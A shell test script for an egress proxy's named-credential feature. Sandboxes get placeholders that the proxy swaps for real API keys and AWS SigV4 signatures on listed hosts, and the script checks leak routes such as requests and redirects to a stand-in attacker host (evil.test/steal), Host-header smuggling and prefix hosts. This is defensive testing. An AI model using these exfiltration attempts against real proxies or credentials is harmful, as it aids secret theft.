# r30-proxy-creds: named credentials in the proxy (issue 30, first slice):
# declared by an addon (bearer, header, basic, query; env: and file:
# secrets), chosen per sandbox by its policy or the defaults, placeholders
# in the register reply, swapped on an intercepted request to a listed
# host (a header, a Basic pair, the query), forms added when the client
# sent none; and every route a placeholder or a real value could leave by,
# each asserted on what a recording upstream received.
. "$(dirname "$0")/../lib/common.sh"
. "$TOP/tests/lib/fakegit.sh"

# ---- a test CA and one TLS upstream posing as every host ----
. "$TOP/tests/lib/upca.sh"
upca_mk "$T/upca.crt" "$T/upca.key" "$T/srv.crt" "$T/srv.key" model.test anthropic.test pypi.acme.test maps.test api.corp.test evil.test model.test.evil.test s3.test localhost

UP=$(free_port); PLAIN=$(free_port); PP=$(free_port); S3P=$(free_port)
AKID=AKIAR30REAL$(od -An -N5 -tx1 /dev/urandom | tr -d ' \n' | tr a-f A-F)
S3SECRET=r30Secret/$(rnd_() { od -An -N12 -tx1 /dev/urandom | tr -d ' \n'; }; rnd_)
# a second key, a session's (temporary credentials: it signs only with its token)
STS_AKID=ASIAR30REAL$(od -An -N5 -tx1 /dev/urandom | tr -d ' \n' | tr a-f A-F)
STS_SECRET=r30Sts$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
STS_TOKEN=IQoJb3JpZ2luX2VjR30$(od -An -N24 -tx1 /dev/urandom | tr -d ' \n')/sts+token==
"$PY" "$FX/s3fake.py" --listen "$S3P" --cert "$T/srv.crt" --key "$T/srv.key" --cred "$AKID:$S3SECRET" \
	--cred "$STS_AKID:$STS_SECRET:$STS_TOKEN" \
	--bucket probe --log "$T/s3.log" >"$T/s3.out" 2>&1 & track_pid $!
"$PY" "$FX/upstream.py" "$UP" --keepalive --log "$T/rec.jsonl" --cert "$T/srv.crt" \
	--key "$T/srv.key" --redirect https://evil.test/steal & track_pid $!
"$PY" "$FX/upstream.py" "$PLAIN" --log "$T/plain.jsonl" & track_pid $!

# The secrets: only in the proxy's environment and files.
rnd() { od -An -N12 -tx1 /dev/urandom | tr -d ' \n'; }
MODEL_KEY=sk-model-REAL$(rnd)
ANTH_KEY=sk-ant-REAL$(rnd)
PYPI_PW=pypi-REAL$(rnd)
MAPS_KEY="maps REAL/$(rnd)+&="	# a query value that must be percent-encoded
CORP_TOK=corp-REAL$(rnd)
printf '%s\n' "$ANTH_KEY" >"$T/anth.key"
printf '%s' "$PYPI_PW" >"$T/pypi.pw"
printf '%s\n' "$MAPS_KEY" >"$T/maps.key"
printf '%s\n' "$CORP_TOK" >"$T/corp.tok"
printf '%s\n' "$AKID" >"$T/aws.akid"
printf '%s\n' "$S3SECRET" >"$T/aws.secret"
printf '%s\n' "$STS_AKID" >"$T/sts.akid"
printf '%s\n' "$STS_SECRET" >"$T/sts.secret"
printf '%s\n' "$STS_TOKEN" >"$T/sts.token"
chmod 600 "$T"/*.key "$T/pypi.pw" "$T/corp.tok" "$T/aws.akid" "$T/aws.secret"

cat >"$T/creds.lua" <<EOF
return {
  name = "creds",
  credentials = {
    { name = "model", form = "bearer", secret = "env:R30_MODEL_KEY", hosts = { "model.test" },
      default = true, env = { "OPENAI_API_KEY", "MODEL_KEY" } },
    { name = "anth", form = "header", field = "x-api-key", secret = "file:$T/anth.key",
      hosts = { "anthropic.test" } },
    { name = "pypi", form = "basic", user = "__token__", secret = "file:$T/pypi.pw",
      hosts = { "pypi.acme.test" } },
    { name = "maps", form = "query", field = "key", secret = "file:$T/maps.key",
      hosts = { "maps.test" } },
    { name = "corp", form = "bearer", secret = "file:$T/corp.tok", hosts = { "*.corp.test" } },
    { name = "aws", form = "sigv4", key_id = "file:$T/aws.akid", secret = "file:$T/aws.secret",
      hosts = { "s3.test" }, regions = { "us-east-1" }, services = { "s3" },
      env = { "AWS_ACCESS_KEY_ID=key_id", "AWS_SECRET_ACCESS_KEY" } },
    { name = "aws-sts", form = "sigv4", key_id = "file:$T/sts.akid", secret = "file:$T/sts.secret",
      token = "file:$T/sts.token", hosts = { "s3.test" },
      env = { "AWS_ACCESS_KEY_ID=key_id", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN=session_token" } },
  },
}
EOF

px_yaml() {	# px_yaml ADDON-FILE
	cat <<EOF
listen: 127.0.0.1:$PP
workers: 2
admin:
  socket: $T/admin.sock
ca: {cert: $T/ca.crt, key: $T/ca.key, export: $T/export/ca.crt}
upstream:
  ca_bundle: $T/upca.crt
  allow_cidrs: [127.0.0.0/8]
resolve:
  "model.test:443": "127.0.0.1:$UP"
  "anthropic.test:443": "127.0.0.1:$UP"
  "pypi.acme.test:443": "127.0.0.1:$UP"
  "maps.test:443": "127.0.0.1:$UP"
  "api.corp.test:443": "127.0.0.1:$UP"
  "evil.test:443": "127.0.0.1:$UP"
  "model.test.evil.test:443": "127.0.0.1:$UP"
  "model.test:80": "127.0.0.1:$PLAIN"
  "s3.test:443": "127.0.0.1:$S3P"
addons: [$1]
audit:
  log: $T/audit.jsonl
log:
  file: $T/proxy.log
EOF
}
mkdir -p "$T/export"
px_yaml "$T/creds.lua" >"$T/p.yaml"
. "$TOP/tests/lib/pxsolo.sh"
px_solo "R30_MODEL_KEY=$MODEL_KEY"
pyj() { "$PY" -c "import json,sys; d=json.load(sys.stdin); $1"; }
jcheck() {	# jcheck NAME FILE PYTHON: PYTHON asserts on d, the JSON in FILE
	if "$PY" -c "import json,re,sys; d=json.load(open(sys.argv[1])); $3" "$2" 2>"$T/jcheck.err"; then
		ok "$1"
	else
		fail "$1" "$(tail -n 1 "$T/jcheck.err")"
	fi
}

# ---- 1. register: the credentials in force, their placeholders, never a value ----
adm '{"op":"register","id":"sb-a","secret":"s-a"}' >"$T/reg-a.json"
adm '{"op":"register","id":"sb-b","secret":"s-b","policy":{"credentials":["model","anth","pypi","maps","corp"]}}' >"$T/reg-b.json"
adm '{"op":"register","id":"sb-c","secret":"s-c","policy":{"credentials":[]}}' >"$T/reg-c.json"
jcheck "no policy: the default credentials only (model)" "$T/reg-a.json" \
	'assert d["ok"] and sorted(d["credentials"]) == ["model"], d'
jcheck "a policy's list: exactly its credentials" "$T/reg-b.json" \
	'assert sorted(d["credentials"]) == ["anth", "corp", "maps", "model", "pypi"], d'
jcheck "an empty list: none, not the defaults" "$T/reg-c.json" 'assert d["credentials"] == {}, d'
jcheck "each entry: form, hosts, field or user, a placeholder" "$T/reg-b.json" '
c = d["credentials"]
assert c["anth"]["form"] == "header" and c["anth"]["field"] == "x-api-key", c
assert c["pypi"]["user"] == "__token__" and c["corp"]["hosts"] == ["*.corp.test"], c
assert all(re.fullmatch("PXC[A-Z2-7]{29}", v["placeholder"]) for v in c.values()), c
assert c["model"]["env"] == {"OPENAI_API_KEY": c["model"]["placeholder"], "MODEL_KEY": c["model"]["placeholder"]}, c
assert "env" not in c["anth"] and "key_id" not in c["model"], c'
ph() { pyj "print(d['credentials']['$2']['placeholder'])" <"$T/reg-$1.json"; }
PH_A_MODEL=$(ph a model); PH_B_MODEL=$(ph b model); PH_ANTH=$(ph b anth); PH_PYPI=$(ph b pypi)
PH_MAPS=$(ph b maps); PH_CORP=$(ph b corp)
check "placeholders are per sandbox" test "$PH_A_MODEL" != "$PH_B_MODEL"
adm '{"op":"register","id":"sb-b","secret":"s-b","policy":{"credentials":["model","anth","pypi","maps","corp"]}}' >"$T/reg-b2.json"
check "the same sandbox gets the same placeholders again" test "$(ph b2 model)" = "$PH_B_MODEL"
adm '{"op":"register","id":"sb-s3","secret":"s-s3","policy":{"credentials":["aws"]}}' >"$T/reg-s3.json"
jcheck "sigv4: the reply gives a key id placeholder and the env that sets both" "$T/reg-s3.json" '
c = d["credentials"]["aws"]
assert c["form"] == "sigv4" and re.fullmatch("PXC[A-Z2-7]{29}", c["key_id"]) and c["key_id"] != c["placeholder"], c
assert c["env"] == {"AWS_ACCESS_KEY_ID": c["key_id"], "AWS_SECRET_ACCESS_KEY": c["placeholder"]}, c'
check "no reply holds a real value" bash -c "! grep -qF -e '$MODEL_KEY' -e '$ANTH_KEY' -e '$PYPI_PW' -e '$CORP_TOK' -e '$AKID' -e '$S3SECRET' '$T'/reg-*.json"
out=$(adm '{"op":"register","id":"sb-x","secret":"s-x","policy":{"credentials":["model","nosuch"]}}')
case $out in *'"ok":false'*"nosuch, which no addon declares"*) ok "a policy naming an undeclared credential is refused";;
*) fail "a policy naming an undeclared credential is refused" "$out";; esac
out=$(adm '{"op":"register","id":"sb-x","secret":"s-x","policy":{"credentials":"model"}}')
case $out in *'"ok":false'*"list of credential names"*) ok "policy.credentials must be a list";;
*) fail "policy.credentials must be a list" "$out";; esac

# ---- 2. swaps and forms, as the upstream received them ----
C=(curl -sS --max-time 20 --cacert "$T/export/ca.crt")
CB=("${C[@]}" -x "http://sb-b:s-b@127.0.0.1:$PP")
last() { tail -n 1 "$T/rec.jsonl"; }
hdr() {	# hdr NAME: the value of header NAME in the last request the upstream saw
	last | "$PY" -c 'import json,sys; d=json.loads(sys.stdin.read()); n=sys.argv[1].lower()
print("\n".join(v for k,v in d["headers"] if k.lower()==n))' "$1"
}
upath() { last | "$PY" -c 'import json,sys; print(json.loads(sys.stdin.read())["path"])'; }
n0=$(wc -l <"$T/rec.jsonl" 2>/dev/null || echo 0)
"${CB[@]}" -H "Authorization: Bearer $PH_B_MODEL" https://model.test/v1/models >"$T/o1" 2>&1
check "bearer placeholder: the upstream got the real key" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
check "bearer placeholder: the client got the upstream's answer" contains "$T/o1" "upstream-ok"
"${CB[@]}" https://model.test/v1/chat >/dev/null 2>&1
check "no Authorization sent: the bearer form is added" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
"${CB[@]}" -H "Authorization: Bearer sk-something-else" https://model.test/v1/chat >/dev/null 2>&1
check "the client's own Authorization never passes; the form replaces it" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
"${CB[@]}" -H "x-api-key: $PH_ANTH" https://anthropic.test/v1/messages >/dev/null 2>&1
check "header placeholder (x-api-key) swapped" test "$(hdr x-api-key)" = "$ANTH_KEY"
check "one x-api-key field upstream" test "$(hdr x-api-key | wc -l)" = 1
"${CB[@]}" https://anthropic.test/v1/messages >/dev/null 2>&1
check "no x-api-key sent: the header form is added" test "$(hdr x-api-key)" = "$ANTH_KEY"
"${CB[@]}" -u "__token__:$PH_PYPI" https://pypi.acme.test/simple/acme-lib/ >/dev/null 2>&1
want=$(printf '%s' "__token__:$PYPI_PW" | base64 -w0)
check "Basic pair with a placeholder: decoded, swapped, encoded again" test "$(hdr authorization)" = "Basic $want"
"${CB[@]}" https://pypi.acme.test/simple/ >/dev/null 2>&1
check "no Authorization: the basic form is added with its user" test "$(hdr authorization)" = "Basic $want"
enc=$("$PY" -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.argv[1], safe="-_.~"))' "$MAPS_KEY")
"${CB[@]}" "https://maps.test/geo?q=berlin&key=$PH_MAPS&z=1" >/dev/null 2>&1
check "query placeholder swapped, percent-encoded" test "$(upath)" = "/geo?q=berlin&key=$enc&z=1"
"${CB[@]}" "https://maps.test/geo?q=paris" >/dev/null 2>&1
check "no key parameter: the query form is added" test "$(upath)" = "/geo?q=paris&key=$enc"
"${CB[@]}" "https://maps.test/tiles" >/dev/null 2>&1
check "no query at all: the query form starts one" test "$(upath)" = "/tiles?key=$enc"
"${CB[@]}" https://api.corp.test/v2/x >/dev/null 2>&1
check "a host glob (*.corp.test) gets its credential" test "$(hdr authorization)" = "Bearer $CORP_TOK"
"${CB[@]}" https://MODEL.test./v1/case >/dev/null 2>&1
check "case and a trailing dot: the same canonical host, the credential" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
CA_=("${C[@]}" -x "http://sb-a:s-a@127.0.0.1:$PP")
"${CA_[@]}" -H "Authorization: Bearer $PH_A_MODEL" https://model.test/v1/a >/dev/null 2>&1
check "sb-a (defaults) gets model with its own placeholder" test "$(hdr authorization)" = "Bearer $MODEL_KEY"

# ---- 3. the audit line names what was applied, never a value ----
sleep 0.5
check "audit: a swap is named" grep -q '"credentials":"model:swap"' "$T/audit.jsonl"
check "audit: an added form is named" grep -q '"credentials":"anth:header"' "$T/audit.jsonl"
check "audit: the query's path keeps the client's placeholder" grep -qF "key=$PH_MAPS" "$T/audit.jsonl"
check "metrics count the requests with a credential" bash -c "adm() { $PY $FX/padmin.py $T/admin.sock \"\$@\"; }; adm '{\"op\":\"metrics\"}' | grep -Eq 'egress_proxy_credential_requests_total [1-9]'"

# ---- 4. attacks: where a placeholder or a value could leak ----
novalue() {	# novalue FILE...: none of the real values in the files
	! grep -qF -e "$MODEL_KEY" -e "$ANTH_KEY" -e "$PYPI_PW" -e "$CORP_TOK" -e "$enc" "$@" 2>/dev/null
}
"${CB[@]}" -H "Authorization: Bearer $PH_B_MODEL" -H "x-api-key: $PH_ANTH" \
	"https://evil.test/steal?key=$PH_MAPS" >/dev/null 2>&1 ||
	"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-b:s-b@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" -H "x-api-key: $PH_ANTH" \
	"https://evil.test/steal?key=$PH_MAPS" >/dev/null 2>&1
check "placeholders sent to an unlisted host arrive as the text they are" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL'"
check "an unlisted host gets no value" bash -c "tail -n 1 '$T/rec.jsonl' | { ! grep -qF -e '$MODEL_KEY' -e '$ANTH_KEY' -e '$enc'; }"
"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-b:s-b@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" https://model.test.evil.test/x >/dev/null 2>&1
check "a listed name as a prefix of another host (model.test.evil.test) gets nothing" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$MODEL_KEY'; }"
"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-c:s-c@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" https://model.test/v1/c >/dev/null 2>&1
check "a sandbox without the credential sending another's placeholder: not opened, the text only" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$MODEL_KEY'; }"
"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-a:s-a@127.0.0.1:$PP" \
	-H "x-api-key: $PH_ANTH" https://anthropic.test/v1/a >/dev/null 2>&1
check "another sandbox's placeholder for a credential this one lacks: the text only" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_ANTH' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$ANTH_KEY'; }"
n1=$(wc -l <"$T/rec.jsonl")
code=$("${CB[@]}" -o /dev/null -w '%{http_code}' -H "Host: evil.test" -H "Authorization: Bearer $PH_B_MODEL" https://model.test/x 2>/dev/null)
check "Host naming another host on a credential's tunnel: 421" test "$code" = 421
code=$("${CB[@]}" -o /dev/null -w '%{http_code}' --request-target "https://evil.test/abs" -H "Authorization: Bearer $PH_B_MODEL" https://model.test/x 2>/dev/null)
check "an absolute-form target naming another host: 421" test "$code" = 421
check "neither was forwarded" test "$(wc -l <"$T/rec.jsonl")" = "$n1"
cat "$T/export/ca.crt" "$T/upca.crt" >"$T/both.pem"
curl -sS --max-time 20 --cacert "$T/both.pem" -x "http://sb-b:s-b@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" -o /dev/null -L --location-trusted https://model.test/redirect 2>/dev/null
check "a redirect to an unlisted host: followed by the client, the placeholder only" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -q '/steal' && tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$MODEL_KEY'; }"
curl -sS --max-time 20 -x "http://sb-b:s-b@127.0.0.1:$PP" -H "Authorization: Bearer $PH_B_MODEL" \
	http://model.test/plain >/dev/null 2>&1
check "plain http:// to a listed host: no credential, the placeholder as text" \
	bash -c "tail -n 1 '$T/plain.jsonl' | grep -qF '$PH_B_MODEL' && ! grep -qF '$MODEL_KEY' '$T/plain.jsonl'"
"${CB[@]}" --proxy-header "X-Note: $PH_B_MODEL" -H "Proxy-Authorization: Bearer $PH_B_MODEL" \
	https://model.test/pa >/dev/null 2>&1
check "Proxy-Authorization with a placeholder is never swapped or sent" \
	bash -c "tail -n 1 '$T/rec.jsonl' | { ! grep -qi 'proxy-authorization'; }"
# nine fields with placeholders: refused, nothing sent
n1=$(wc -l <"$T/rec.jsonl")
args=(); for i in 1 2 3 4 5 6 7 8 9; do args+=(-H "X-P$i: $PH_B_MODEL"); done
code=$("${CB[@]}" -o /dev/null -w '%{http_code}' "${args[@]}" https://model.test/many 2>/dev/null)
check "more than 8 fields with placeholders: 400, nothing forwarded" \
	bash -c "test '$code' = 400 && test \$(wc -l <'$T/rec.jsonl') = $n1"
check "no real value in the proxy's log, stderr or audit log" novalue "$T/proxy.log" "$T/stderr" "$T/audit.jsonl"

# ---- 5. AWS SigV4: the real AWS CLI signs with placeholders, S3 verifies the real key ----
PH_AKID=$(pyj "print(d['credentials']['aws']['key_id'])" <"$T/reg-s3.json")
PH_S3=$(pyj "print(d['credentials']['aws']['placeholder'])" <"$T/reg-s3.json")
mkdir -p "$T/aws"
printf '[default]\ns3 =\n    addressing_style = path\n    multipart_threshold = 8MB\n    multipart_chunksize = 5MB\n' >"$T/aws/config"
printf '[default]\ns3 =\n    addressing_style = path\n    payload_signing_enabled = true\n' >"$T/aws/config-signed"
awsp() {	# awsp SANDBOX:SECRET aws-args...: the AWS CLI through the proxy with sb-s3's placeholders
	local who=$1; shift
	env AWS_CONFIG_FILE="$T/aws/config" AWS_SHARED_CREDENTIALS_FILE="$T/aws/none" \
		AWS_CA_BUNDLE="${AWSP_CA:-$T/export/ca.crt}" AWS_DEFAULT_REGION=us-east-1 AWS_EC2_METADATA_DISABLED=true \
		AWS_PAGER= AWS_ACCESS_KEY_ID="$PH_AKID" AWS_SECRET_ACCESS_KEY="$PH_S3" \
		HTTPS_PROXY="http://$who@127.0.0.1:$PP" https_proxy="http://$who@127.0.0.1:$PP" NO_PROXY= no_proxy= \
		/usr/bin/aws --endpoint-url https://s3.test "$@"
}
head -c 1000 /dev/urandom >"$T/small.bin"
head -c $((9 * 1024 * 1024 + 77)) /dev/urandom >"$T/big.bin"
check "aws s3 cp with placeholders: S3 verified the real key" awsp sb-s3:s-s3 s3 cp --no-progress "$T/small.bin" s3://probe/dir/small.bin
check "aws s3 cp 9 MiB (multipart: Create, UploadPart x2, Complete)" awsp sb-s3:s-s3 s3 cp --no-progress "$T/big.bin" s3://probe/big.bin
awsp sb-s3:s-s3 s3 ls --recursive s3://probe/ >"$T/ls.out" 2>&1
check "aws s3 ls lists both" bash -c "grep -q ' 1000 dir/small.bin\$' '$T/ls.out' && grep -q ' $((9 * 1024 * 1024 + 77)) big.bin\$' '$T/ls.out'"
check "aws s3 cp back (ranged GETs): identical" bash -c "$(declare -f awsp); T='$T' PP=$PP PH_AKID=$PH_AKID PH_S3=$PH_S3 awsp sb-s3:s-s3 s3 cp --no-progress s3://probe/big.bin '$T/big.back' >/dev/null && cmp -s '$T/big.bin' '$T/big.back'"
check "put-object --checksum-algorithm CRC32 (aws-chunked, unsigned trailer)" \
	awsp sb-s3:s-s3 s3api put-object --bucket probe --key chunked.bin --body "$T/small.bin" --checksum-algorithm CRC32 --output text
check "payload_signing_enabled: the body's SHA-256 signed, signed again" \
	env AWS_CONFIG_FILE="$T/aws/config-signed" bash -c "$(declare -f awsp | sed 's|AWS_CONFIG_FILE=\"\$T/aws/config\"|AWS_CONFIG_FILE=\"\$T/aws/config-signed\"|'); T='$T' PP=$PP PH_AKID=$PH_AKID PH_S3=$PH_S3 awsp sb-s3:s-s3 s3 cp --no-progress '$T/small.bin' s3://probe/signed.bin"
# signed chunks (STREAMING-AWS4-HMAC-SHA256-PAYLOAD: the Java and Go SDKs'
# uploads): the seed signature from botocore with the placeholders, each
# chunk's signature chained under the placeholder secret; the proxy checks
# that chain and writes the real key's in its place (sigv4.c, credreq.c)
"$PY" "$TOP/tests/cred/s3probe.py" live https://s3.test "$T/export/ca.crt" "$PH_AKID" "$PH_S3" probe \
	--only streaming-signed,get-stream,streaming-bad-chunk --proxy "127.0.0.1:$PP" \
	--proxy-auth sb-s3:s-s3 >"$T/stream.out" 2>&1
check "signed chunks with placeholders: each chunk signed again, S3 verified all 4" \
	bash -c "grep -qx 'streaming-signed 200 -' '$T/stream.out' && grep -qx 'stream-body-matches True' '$T/stream.out' && grep 'STREAMING-AWS4-HMAC-SHA256-PAYLOAD' '$T/s3.log' | grep -q '\"chunks\": 4'" ||
	cat "$T/stream.out"
check "a chunk whose signature does not verify under the placeholder chain: 400, cut" \
	grep -qx 'streaming-bad-chunk 400 -' "$T/stream.out"
check "s3fake saw only the real key id, every request verified" \
	"$PY" -c 'import json,sys
rs = [json.loads(l) for l in open(sys.argv[1])]
assert len(rs) >= 8, len(rs)
bad = [(r.get("op"), r.get("verdict"), (r.get("auth") or {}).get("key_id")) for r in rs if r.get("verdict") != "ok" or (r.get("auth") or {}).get("key_id") != sys.argv[2]]
assert not bad, bad' "$T/s3.log" "$AKID"
check "the audit names the re-signing" grep -q '"credentials":"aws:sigv4"' "$T/audit.jsonl"
n1=$(wc -l <"$T/s3.log")
awsp sb-s3:s-s3 --region eu-west-1 s3 ls s3://probe/ >"$T/region.out" 2>&1
check "a region the credential does not sign for: refused by the proxy, nothing sent" \
	bash -c "grep -q '(403)' '$T/region.out' && grep -q '\"detail\":\"credential aws does not sign for region eu-west-1\"' '$T/audit.jsonl' && test \$(wc -l <'$T/s3.log') = $n1"
env AWS_CONFIG_FILE="$T/aws/config" AWS_DEFAULT_REGION=us-east-1 AWS_EC2_METADATA_DISABLED=true \
	AWS_ACCESS_KEY_ID="$PH_AKID" AWS_SECRET_ACCESS_KEY="$PH_S3" AWS_SHARED_CREDENTIALS_FILE="$T/aws/none" \
	AWS_CA_BUNDLE="$T/upca.crt" /usr/bin/aws --endpoint-url "https://localhost:$S3P" s3 ls s3://probe/ >"$T/direct.out" 2>&1
check "the placeholders straight to S3 (no proxy): InvalidAccessKeyId" grep -q InvalidAccessKeyId "$T/direct.out"
cat "$T/export/ca.crt" "$T/upca.crt" >"$T/both-s3.pem"
AWSP_CA="$T/both-s3.pem" awsp sb-a:s-a s3 ls s3://probe/ >"$T/other.out" 2>&1
check "another sandbox (without aws) with sb-s3's placeholders: not opened, refused by S3" \
	bash -c "grep -q InvalidAccessKeyId '$T/other.out' && tail -n 1 '$T/s3.log' | grep -qF '$PH_AKID'"
# a session's key (aws-sts): its token's placeholder in X-Amz-Security-Token,
# swapped and signed again; a client that sends none gets it added and signed
adm '{"op":"register","id":"sb-sts","secret":"s-sts","policy":{"credentials":["aws-sts"]}}' >"$T/reg-sts.json"
jcheck "a session token: its placeholder in the reply and in AWS_SESSION_TOKEN" "$T/reg-sts.json" '
c = d["credentials"]["aws-sts"]
assert re.fullmatch("PXC[A-Z2-7]{29}", c["session_token"]), c
assert c["env"]["AWS_SESSION_TOKEN"] == c["session_token"] != c["placeholder"] != c["key_id"], c'
STS_PH_ID=$(pyj "print(d['credentials']['aws-sts']['key_id'])" <"$T/reg-sts.json")
STS_PH=$(pyj "print(d['credentials']['aws-sts']['placeholder'])" <"$T/reg-sts.json")
STS_PH_TOK=$(pyj "print(d['credentials']['aws-sts']['session_token'])" <"$T/reg-sts.json")
awssts() {	# awssts TOKEN-OR-EMPTY aws-args...
	local tok=$1; shift
	env AWS_CONFIG_FILE="$T/aws/config" AWS_SHARED_CREDENTIALS_FILE="$T/aws/none" \
		AWS_CA_BUNDLE="$T/export/ca.crt" AWS_DEFAULT_REGION=us-east-1 AWS_EC2_METADATA_DISABLED=true \
		AWS_PAGER= AWS_ACCESS_KEY_ID="$STS_PH_ID" AWS_SECRET_ACCESS_KEY="$STS_PH" \
		${tok:+AWS_SESSION_TOKEN="$tok"} \
		HTTPS_PROXY="http://sb-sts:s-sts@127.0.0.1:$PP" NO_PROXY= no_proxy= \
		/usr/bin/aws --endpoint-url https://s3.test "$@"
}
n1=$(wc -l <"$T/s3.log")
check "aws s3 cp with a session token's placeholders: S3 verified the real token" \
	awssts "$STS_PH_TOK" s3 cp --no-progress "$T/small.bin" s3://probe/sts.bin
check "... and without AWS_SESSION_TOKEN: the proxy adds the token and signs it" \
	awssts "" s3 ls s3://probe/
check "s3fake: both with the session's real key id, verified (token included)" \
	"$PY" -c 'import json,sys
rs = [json.loads(l) for l in open(sys.argv[1])][int(sys.argv[3]):]
assert len(rs) == 2 and all(r.get("verdict") == "ok" and r["auth"]["key_id"] == sys.argv[2] for r in rs), rs' \
	"$T/s3.log" "$STS_AKID" "$n1"
env AWS_CONFIG_FILE="$T/aws/config" AWS_DEFAULT_REGION=us-east-1 AWS_EC2_METADATA_DISABLED=true \
	AWS_ACCESS_KEY_ID="$STS_AKID" AWS_SECRET_ACCESS_KEY="$STS_SECRET" AWS_SESSION_TOKEN="$STS_PH_TOK" \
	AWS_SHARED_CREDENTIALS_FILE="$T/aws/none" AWS_CA_BUNDLE="$T/upca.crt" \
	/usr/bin/aws --endpoint-url "https://localhost:$S3P" s3 ls s3://probe/ >"$T/stsdirect.out" 2>&1
check "the token's placeholder straight to S3, even with the real keys: InvalidToken" \
	grep -q InvalidToken "$T/stsdirect.out"
# presigned URLs (the query form): made in the sandbox with the placeholders,
# fetched through the proxy, which signs them again with the real key
pcurl() {	# pcurl SANDBOX:SECRET URL: GET through the proxy, the body on stdout
	curl -sS --max-time 20 --cacert "$T/export/ca.crt" -x "http://$1@127.0.0.1:$PP" "$2"
}
n1=$(wc -l <"$T/s3.log")
purl=$(awsp sb-s3:s-s3 s3 presign s3://probe/dir/small.bin --expires-in 300)
check "a presigned URL made with the placeholders names the key id placeholder" \
	grep -qF "X-Amz-Credential=$PH_AKID%2F" <<<"$purl"
check "... fetched through the proxy: the object" bash -c "$(declare -f pcurl); T='$T' PP=$PP pcurl sb-s3:s-s3 '$purl' | cmp -s - '$T/small.bin'"
check "... s3fake verified it presigned with the real key id" "$PY" -c 'import json,sys
r = [json.loads(l) for l in open(sys.argv[1])][int(sys.argv[3]):][0]
assert r["verdict"] == "ok" and r["auth"]["scheme"] == "presigned" and r["auth"]["key_id"] == sys.argv[2], r' \
	"$T/s3.log" "$AKID" "$n1"
check "... the audit names the re-signing" bash -c "tail -n 3 '$T/audit.jsonl' | grep -q '\"credentials\":\"aws:sigv4\"'"
pcurl sb-s3:s-s3 "${purl/dir\/small.bin/big.bin}" >"$T/pre-other.out" 2>&1
check "the sandbox's own URL edited to another object: signed again too (the key is the sandbox's to use)" \
	bash -c "test \$(wc -c <'$T/pre-other.out') = $((9 * 1024 * 1024 + 77))"
purl1=$(awsp sb-s3:s-s3 s3 presign s3://probe/dir/small.bin --expires-in 1)
sleep 2
pcurl sb-s3:s-s3 "$purl1" >"$T/pre-exp.out" 2>&1
check "X-Amz-Expires kept: an expired URL is refused by S3 (Request has expired)" grep -q 'Request has expired' "$T/pre-exp.out"
curl -sS --max-time 20 --cacert "$T/both-s3.pem" -x "http://sb-a:s-a@127.0.0.1:$PP" "$purl" >"$T/pre-sba.out" 2>&1
check "sb-s3's URL fetched by another sandbox: not signed again, refused by S3 (InvalidAccessKeyId)" \
	grep -q InvalidAccessKeyId "$T/pre-sba.out"
curl -sS --max-time 20 --cacert "$T/upca.crt" --resolve "s3.test:443:127.0.0.1" \
	"$(sed "s|https://s3.test/|https://localhost:$S3P/|" <<<"$purl")" >"$T/pre-direct.out" 2>&1
check "the URL straight to S3 (no proxy): InvalidAccessKeyId" grep -q InvalidAccessKeyId "$T/pre-direct.out"
ourl=$(env AWS_ACCESS_KEY_ID=AKIAOTHERKEY0000000X AWS_SECRET_ACCESS_KEY=other AWS_CONFIG_FILE="$T/aws/config" \
	AWS_SHARED_CREDENTIALS_FILE="$T/aws/none" AWS_DEFAULT_REGION=us-east-1 /usr/bin/aws --endpoint-url https://s3.test \
	s3 presign s3://probe/dir/small.bin --expires-in 300)
pcurl sb-s3:s-s3 "$ourl" >"$T/pre-foreign.out" 2>&1
check "a presigned URL of another key goes as it was sent (S3 refuses it)" \
	bash -c "grep -q InvalidAccessKeyId '$T/pre-foreign.out' && tail -n 1 '$T/s3.log' | grep -qF AKIAOTHERKEY0000000X"
n2=$(wc -l <"$T/s3.log")
code=$(curl -sS --max-time 20 --cacert "$T/export/ca.crt" -x "http://sb-s3:s-s3@127.0.0.1:$PP" -o "$T/pre-4a.out" \
	-w '%{http_code}' "${purl/AWS4-HMAC-SHA256/AWS4-ECDSA-P256-SHA256}" 2>&1)
check "a presigned URL of SigV4a: 501 with the reason, nothing sent" \
	bash -c "test '$code' = 501 && grep -q 'SigV4a' '$T/pre-4a.out' && test \$(wc -l <'$T/s3.log') = $n2"
surl=$(awssts "$STS_PH_TOK" s3 presign s3://probe/sts.bin --expires-in 300)
surl2=$(awssts "" s3 presign s3://probe/sts.bin --expires-in 300)
n2=$(wc -l <"$T/s3.log")
check "a session's presigned URL, with the token's placeholder and without it: both verified" \
	bash -c "$(declare -f pcurl); T='$T' PP=$PP; pcurl sb-sts:s-sts '$surl' | cmp -s - '$T/small.bin' && pcurl sb-sts:s-sts '$surl2' | cmp -s - '$T/small.bin'"
check "... s3fake: the session's real key id and token" "$PY" -c 'import json,sys
rs = [json.loads(l) for l in open(sys.argv[1])][int(sys.argv[3]):]
